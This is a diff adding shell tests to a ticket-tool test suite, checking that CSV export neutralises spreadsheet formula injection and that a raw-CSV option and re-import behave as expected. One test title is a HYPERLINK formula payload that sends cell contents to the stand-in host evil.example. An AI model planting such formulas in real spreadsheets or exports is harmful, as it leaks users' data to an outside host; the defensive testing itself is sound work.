@@ -58,4 +58,25 @@ else
 fi
 fsck_ok "forge" "$r"
 
+# --- CSV cells that a spreadsheet would run as formulas ---
+r=$(store csv)
+id=$(new_ticket "$r" '=HYPERLINK("http://evil.example/?"&A1,"Click")' --requester "@attacker" -m $'-1 degrees\nin the server room')
+expect_exit "csv: export" 0 sd -C "$r" export --format csv -o "$tmp/desk.csv"
+expect_contains "csv: a formula title is neutralised" "$tmp/desk.csv" \
+	"$id,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",incident"
+expect_contains "csv: @ is neutralised" "$tmp/desk.csv" ",'@attacker,"
+expect_contains "csv: - is neutralised" "$tmp/desk.csv" "\"'-1 degrees"
+expect_exit "csv: export --raw-csv" 0 sd -C "$r" export --format csv --raw-csv
+expect_out_has "csv: --raw-csv keeps cells as they are" "$id,\"=HYPERLINK("
+expect_out_has "csv: --raw-csv keeps @" ",@attacker,"
+expect_exit "csv: --raw-csv is for CSV" 2 sd -C "$r" export --raw-csv
+expect_sd_error "csv: --raw-csv with JSON: message"
+r2=$(store csv-import)
+expect_exit "csv: import of the export" 0 sd -C "$r2" import "$tmp/desk.csv"
+expect_file_eq "csv: import takes the added quote off again" "$r/$(tpath "$id")" "$r2/$(tpath "$id")"
+r3=$(store csv-raw-import)
+expect_exit "csv: import --raw-csv" 0 sd -C "$r3" import --raw-csv "$tmp/desk.csv"
+expect_exit "csv: import --raw-csv: show" 0 sd -C "$r3" show --json "$id"
+expect_json "csv: import --raw-csv keeps the quote" "$OUT" 'd["requester"]' "'@attacker"
+
 finish
